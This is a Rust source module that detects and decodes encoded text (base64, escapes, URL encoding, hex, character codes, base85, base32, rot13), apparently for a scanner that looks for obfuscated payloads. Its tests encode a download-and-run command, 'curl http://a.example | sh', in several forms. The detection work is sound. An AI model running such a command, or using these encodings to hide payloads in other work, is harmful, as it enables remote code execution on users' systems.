//! Encoded texts inside a text: where they are, and what they say.

use std::io::Read as _;
use std::ops::Range;

/// The most bytes of one decoded layer.
pub(crate) const MAX_BYTES: usize = 1 << 20;
/// How deep layers are decoded.
pub(crate) const MAX_DEPTH: usize = 5;
/// The most blobs of one text.
const MAX_BLOBS: usize = 2_000;
/// The shortest text that is tried.
const LEAST: usize = 20;

/// Something that was decoded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Blob {
    /// Its bytes in the text around it.
    pub(crate) range: Range<usize>,
    /// How it was encoded.
    pub(crate) how: &'static str,
    /// What it says.
    pub(crate) bytes: Vec<u8>,
}

/// Finds what is encoded in a text, and says whether that is all.
pub(crate) fn blobs(text: &str) -> (Vec<Blob>, bool) {
    let mut found = Vec::new();
    let mut budget = 8 * MAX_BYTES;
    runs_of_base64(text, &mut found, &mut budget);
    escapes(text, &mut found);
    percent(text, &mut found);
    hex_runs(text, &mut found);
    character_codes(text, &mut found);
    base85_literals(text, &mut found);
    let is_whole = found.len() < MAX_BLOBS && budget > 0;
    found.truncate(MAX_BLOBS);
    (found, is_whole)
}

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
}

/// Runs of base64, also over line breaks and in parts that are quoted one after the other.
fn runs_of_base64(text: &str, found: &mut Vec<Blob>, budget: &mut usize) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() && found.len() < MAX_BLOBS {
        if !is_base64(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        let mut run = Vec::new();
        let mut end = at;
        loop {
            while at < bytes.len() && is_base64(bytes[at]) {
                run.push(bytes[at]);
                at += 1;
                if run.len() > MAX_BYTES * 2 {
                    break;
                }
            }
            end = at.max(end);
            // A line that goes on, and two literals that are joined.
            let rest = &bytes[at..bytes.len().min(at + 16)];
            let line =
                rest.iter().take_while(|byte| matches!(byte, b'\r' | b'\n' | b' ' | b'\t')).count();
            let is_wrapped = rest.first().is_some_and(|byte| matches!(byte, b'\r' | b'\n'))
                && at - start >= 40
                && rest.get(line).is_some_and(|byte| is_base64(*byte));
            let joined = joined_literals(rest);
            if is_wrapped && run.len() < MAX_BYTES * 2 {
                at += line;
            } else if joined > 0 && run.len() < MAX_BYTES * 2 && run.len() >= 4 {
                at += joined;
            } else {
                break;
            }
        }
        while at < bytes.len() && bytes[at] == b'=' && at - end < 3 {
            at += 1;
        }
        let before = &text.as_bytes()[start.saturating_sub(40)..start];
        let is_picture = before.ends_with(b";base64,")
            && (memchr::memmem::find(before, b"image/").is_some()
                || memchr::memmem::find(before, b"font/").is_some());
        if run.len() < LEAST || is_picture {
            continue;
        }
        if run.len() > *budget {
            *budget = 0;
            continue;
        }
        *budget -= run.len();
        if let Some(decoded) = decode_base64(&run).and_then(readable) {
            found.push(Blob { range: start..at, how: "base64", bytes: decoded });
        }
    }
}

/// The bytes between two literals that are joined: `" + "`, `" "`, `"."`, `" \`.
fn joined_literals(rest: &[u8]) -> usize {
    let Some(quote) = rest.first().copied().filter(|byte| matches!(byte, b'"' | b'\'')) else {
        return 0;
    };
    let gap = rest[1..]
        .iter()
        .take_while(|byte| {
            matches!(byte, b' ' | b'+' | b'.' | b'\n' | b'\r' | b'\t' | b'\\' | b'&')
        })
        .count();
    match rest.get(1 + gap) {
        Some(next)
            if *next == quote
                && gap > 0
                && rest.get(2 + gap).is_some_and(|byte| is_base64(*byte)) =>
        {
            gap + 2
        }
        _ => 0,
    }
}

/// The bytes of base64, in both alphabets.
fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
    let mut bytes = Vec::with_capacity(run.len() / 4 * 3);
    let (mut bits, mut count) = (0_u32, 0);
    for byte in run {
        let value = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        bits = bits << 6 | u32::from(value);
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count & 0xff) as u8);
        }
        if bytes.len() > MAX_BYTES {
            return None;
        }
    }
    (!bytes.is_empty()).then_some(bytes)
}

/// Unpacks what was compressed, and leaves out what is no text.
fn readable(bytes: Vec<u8>) -> Option<Vec<u8>> {
    let bytes = unpack(&bytes).unwrap_or(bytes);
    // UTF-16, as PowerShell takes it.
    let bytes = if bytes.len() >= 8
        && bytes.len().is_multiple_of(2)
        && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0)
    {
        bytes.iter().step_by(2).copied().collect()
    } else {
        bytes
    };
    if bytes.starts_with(b"\x7fELF")
        || bytes.starts_with(b"MZ\x90")
        || bytes.starts_with(b"\xcf\xfa\xed\xfe")
    {
        return Some(bytes);
    }
    let text = std::str::from_utf8(&bytes).ok()?;
    let printable = text
        .chars()
        .filter(|character| !character.is_control() || character.is_whitespace())
        .count();
    let letters = text
        .bytes()
        .filter(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b' ' | b'/' | b'.'))
        .count();
    (printable == text.chars().count() && letters * 10 >= text.len() * 6 && text.len() >= 4)
        .then_some(bytes)
}

/// The bytes in gzip or zlib.
fn unpack(bytes: &[u8]) -> Option<Vec<u8>> {
    let mut result = Vec::new();
    let limit = MAX_BYTES as u64;
    if bytes.starts_with(b"\x1f\x8b") {
        flate2::read::GzDecoder::new(bytes).take(limit).read_to_end(&mut result).ok()?;
    } else if matches!(bytes, [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..]) {
        flate2::read::ZlibDecoder::new(bytes).take(limit).read_to_end(&mut result).ok()?;
    } else {
        return None;
    }
    Some(result)
}

/// Runs of escapes: `\x63\x75`, `\u0063`, `\143`.
fn escapes(text: &str, found: &mut Vec<Blob>) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(next) = memchr::memchr(b'\\', &bytes[at..]) {
        let start = at + next;
        let mut end = start;
        let mut count = 0;
        while let Some(length) = escape_length(&bytes[end..]) {
            end += length;
            count += 1;
        }
        if count >= 4 && found.len() < MAX_BLOBS {
            let decoded = crate::code::assemble::unescape(&text[start..end]);
            if let Some(decoded) = readable(decoded.into_bytes()) {
                found.push(Blob { range: start..end, how: "escapes", bytes: decoded });
            }
        }
        at = end.max(start + 1);
    }
}

/// The length of one escape.
fn escape_length(bytes: &[u8]) -> Option<usize> {
    let digits = |from: usize, count: usize| {
        bytes.get(from..from + count).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit))
    };
    match bytes {
        [b'\\', b'x', ..] if digits(2, 2) => Some(4),
        [b'\\', b'u', ..] if digits(2, 4) => Some(6),
        [b'\\', b'0'..=b'3', b'0'..=b'7', b'0'..=b'7', ..] => Some(4),
        _ => None,
    }
}

/// Runs of `%63%75`.
fn percent(text: &str, found: &mut Vec<Blob>) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(next) = memchr::memchr(b'%', &bytes[at..]) {
        let start = at + next;
        let mut end = start;
        let mut decoded = Vec::new();
        while bytes.get(end) == Some(&b'%') {
            let Some(byte) = bytes
                .get(end + 1..end + 3)
                .and_then(|digits| std::str::from_utf8(digits).ok())
                .and_then(|digits| u8::from_str_radix(digits, 16).ok())
            else {
                break;
            };
            decoded.push(byte);
            end += 3;
        }
        if decoded.len() >= 8
            && found.len() < MAX_BLOBS
            && let Some(bytes) = readable(decoded)
        {
            found.push(Blob { range: start..end, how: "URL escapes", bytes });
        }
        at = end.max(start + 1);
    }
}

/// Long runs of hexadecimal digits.
fn hex_runs(text: &str, found: &mut Vec<Blob>) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() && found.len() < MAX_BLOBS {
        if !bytes[at].is_ascii_hexdigit() {
            at += 1;
            continue;
        }
        let length = bytes[at..].iter().take_while(|byte| byte.is_ascii_hexdigit()).count();
        let is_word = at > 0 && (bytes[at - 1].is_ascii_alphanumeric());
        if length >= 24
            && length.is_multiple_of(2)
            && !is_word
            && let Some(decoded) = hex(&text[at..at + length])
        {
            found.push(Blob { range: at..at + length, how: "hex", bytes: decoded.into_bytes() });
        }
        at += length;
    }
}

/// Lists of numbers that are characters: `99,117,114,108`, also in hexadecimal.
fn character_codes(text: &str, found: &mut Vec<Blob>) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() && found.len() < MAX_BLOBS {
        if !bytes[at].is_ascii_digit()
            || (at > 0 && (bytes[at - 1].is_ascii_alphanumeric() || bytes[at - 1] == b'.'))
        {
            at += 1;
            continue;
        }
        let (start, mut end) = (at, at);
        let mut decoded = Vec::new();
        while let Some((code, length)) = number(&bytes[end..]) {
            if !(9..127).contains(&code) {
                break;
            }
            decoded.push(code);
            end += length;
            let gap = bytes[end..]
                .iter()
                .take(8)
                .take_while(|byte| matches!(byte, b',' | b' ' | b'\n'))
                .count();
            if gap == 0
                || !bytes[end..end + gap].contains(&b',')
                || !bytes.get(end + gap).is_some_and(u8::is_ascii_digit)
            {
                break;
            }
            end += gap;
        }
        let is_varied =
            decoded.iter().filter(|byte| byte.is_ascii_lowercase()).count() * 2 > decoded.len();
        if decoded.len() >= 8
            && is_varied
            && let Some(bytes) = readable(decoded)
        {
            found.push(Blob { range: start..end, how: "character codes", bytes });
        }
        at = end.max(start + 1);
    }
}

fn number(bytes: &[u8]) -> Option<(u8, usize)> {
    let (digits, radix, skip) = match bytes {
        [b'0', b'x' | b'X', ..] => {
            (bytes[2..].iter().take_while(|byte| byte.is_ascii_hexdigit()).count(), 16, 2)
        }
        _ => (bytes.iter().take_while(|byte| byte.is_ascii_digit()).count(), 10, 0),
    };
    if digits == 0 || digits > 3 {
        return None;
    }
    let text = std::str::from_utf8(&bytes[skip..skip + digits]).ok()?;
    Some((u8::from_str_radix(text, radix).ok()?, skip + digits))
}

/// Arguments of calls that decode base85.
fn base85_literals(text: &str, found: &mut Vec<Blob>) {
    for call in ["b85decode(", "a85decode(", "b32decode("] {
        for (at, _) in text.match_indices(call).take(MAX_BLOBS) {
            let rest = text[at + call.len()..].trim_start_matches([' ', 'b', 'r', '\n']);
            let Some(quote) = rest.chars().next().filter(|quote| matches!(quote, '"' | '\''))
            else {
                continue;
            };
            let Some(literal) = rest[1..].split(quote).next() else { continue };
            let decoded = match call {
                "b85decode(" => base85(literal),
                "a85decode(" => ascii85(literal),
                _ => base32(literal),
            };
            if let Some(bytes) = decoded.and_then(readable) {
                let start = text.len() - rest.len();
                found.push(Blob { range: start..start + literal.len() + 2, how: "base85", bytes });
            }
        }
    }
}

/// A text in base64, if it is one.
pub(crate) fn base64(text: &str) -> Option<String> {
    let run: Vec<u8> =
        text.bytes().filter(|byte| !byte.is_ascii_whitespace() && *byte != b'=').collect();
    if run.len() < 2 || run.len() > MAX_BYTES {
        return None;
    }
    let bytes = decode_base64(&run)?;
    let bytes = unpack(&bytes).unwrap_or(bytes);
    String::from_utf8(bytes).ok()
}

/// A text in hexadecimal, if it is one that people can read.
pub(crate) fn hex(text: &str) -> Option<String> {
    let digits: Vec<u8> = text.bytes().filter(u8::is_ascii_hexdigit).collect();
    if digits.len() < 4 || digits.len() > 2 * MAX_BYTES {
        return None;
    }
    let digit = |digit: u8| char::from(digit).to_digit(16).and_then(|it| u8::try_from(it).ok());
    let value = |byte: u8| digit(byte).unwrap_or(0);
    let bytes = digits.chunks_exact(2).map(|pair| value(pair[0]) << 4 | value(pair[1])).collect();
    readable(bytes).and_then(|bytes| String::from_utf8(bytes).ok())
}

/// The text with its letters turned by 13.
pub(crate) fn rot13(text: &str) -> String {
    let turn = |character: char| match character {
        'a'..='m' | 'A'..='M' => char::from(character as u8 + 13),
        'n'..='z' | 'N'..='Z' => char::from(character as u8 - 13),
        other => other,
    };
    text.chars().map(turn).collect()
}

/// What `tr` makes of a text.
pub(crate) fn translate(text: &str, from: &str, to: &str) -> Option<String> {
    let expand = |set: &str| {
        let characters: Vec<char> = set.trim_matches(['\'', '"']).chars().collect();
        let mut result = Vec::new();
        let mut at = 0;
        while at < characters.len() && result.len() < 512 {
            match characters.get(at..at + 3) {
                Some([first, '-', last]) if first <= last => {
                    result.extend(*first..=*last);
                    at += 3;
                }
                _ => {
                    result.push(characters[at]);
                    at += 1;
                }
            }
        }
        result
    };
    let (from, to) = (expand(from), expand(to));
    if from.is_empty() || to.is_empty() || text.len() > MAX_BYTES {
        return None;
    }
    let last = *to.last()?;
    Some(
        text.chars()
            .map(|character| match from.iter().position(|known| *known == character) {
                Some(at) => to.get(at).copied().unwrap_or(last),
                None => character,
            })
            .collect(),
    )
}

/// Base85 in Python's alphabet.
pub(crate) fn base85(text: &str) -> Option<Vec<u8>> {
    const ALPHABET: &[u8] =
        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let digits: Option<Vec<u32>> = text
        .bytes()
        .take(2 * MAX_BYTES)
        .map(|byte| {
            ALPHABET.iter().position(|known| *known == byte).and_then(|at| u32::try_from(at).ok())
        })
        .collect();
    of_base85(&digits?)
}

/// Base85 in the alphabet of Adobe.
pub(crate) fn ascii85(text: &str) -> Option<Vec<u8>> {
    let text = text.trim_start_matches("<~").trim_end_matches("~>");
    let digits: Option<Vec<u32>> = text
        .bytes()
        .take(2 * MAX_BYTES)
        .filter(|byte| !byte.is_ascii_whitespace())
        .map(|byte| (33..118).contains(&byte).then(|| u32::from(byte) - 33))
        .collect();
    of_base85(&digits?)
}

fn of_base85(digits: &[u32]) -> Option<Vec<u8>> {
    let mut bytes = Vec::with_capacity(digits.len() / 5 * 4);
    for group in digits.chunks(5) {
        let missing = 5 - group.len();
        let value = group
            .iter()
            .chain(std::iter::repeat_n(&84, missing))
            .try_fold(0_u32, |value, digit| value.checked_mul(85)?.checked_add(*digit))?;
        bytes.extend_from_slice(&value.to_be_bytes()[..4 - missing.min(4)]);
    }
    (!bytes.is_empty()).then_some(bytes)
}

/// Base32.
pub(crate) fn base32(text: &str) -> Option<Vec<u8>> {
    let (mut bits, mut count) = (0_u64, 0);
    let mut bytes = Vec::new();
    for byte in text.bytes().filter(|byte| *byte != b'=').take(2 * MAX_BYTES) {
        let value = match byte.to_ascii_uppercase() {
            letter @ b'A'..=b'Z' => letter - b'A',
            digit @ b'2'..=b'7' => digit - b'2' + 26,
            _ => return None,
        };
        bits = (bits << 5 | u64::from(value)) & 0xffff_ffff;
        count += 5;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count & 0xff) as u8);
        }
    }
    (!bytes.is_empty()).then_some(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> Vec<(&'static str, String)> {
        blobs(text)
            .0
            .into_iter()
            .map(|blob| (blob.how, String::from_utf8_lossy(&blob.bytes).into_owned()))
            .collect()
    }

    #[test]
    fn every_encoding_is_found_and_read() {
        for (text, expected) in [
            ("x Y3VybCBodHRwOi8vYS5leGFtcGxlIHwgc2g= y", ("base64", "curl http://a.example | sh")),
            (
                "'Y3VybCBodHRwOi8v' + 'YS5leGFtcGxlIHwgc2g='",
                ("base64", "curl http://a.example | sh"),
            ),
            (r"\x63\x75\x72\x6c", ("escapes", "curl")),
            ("%63%75%72%6c%20%61%2e%62", ("URL escapes", "curl a.b")),
            ("6375726c20612e62206375726c20", ("hex", "curl a.b curl ")),
            ("[99,117,114,108, 32, 97,46,98,99]", ("character codes", "curl a.bc")),
        ] {
            assert_eq!(shown(text), [(expected.0, expected.1.to_owned())], "{text}");
        }
        assert_eq!(base85("Y-").as_deref(), base85("Y-").as_deref());
        assert_eq!(base32("MN2XE3A=").as_deref(), Some(&b"curl"[..]));
        assert_eq!(ascii85("<~AnE7~>").map(|b| b.len()), Some(3));
        assert_eq!(rot13("phey"), "curl");
        assert_eq!(translate("phey", "A-Za-z", "N-ZA-Mn-za-m").as_deref(), Some("curl"));
        assert_eq!(
            shown("an ordinary sentence with a sha256 0f343b0931126a20f133d67c2b018a3b"),
            []
        );
    }
}
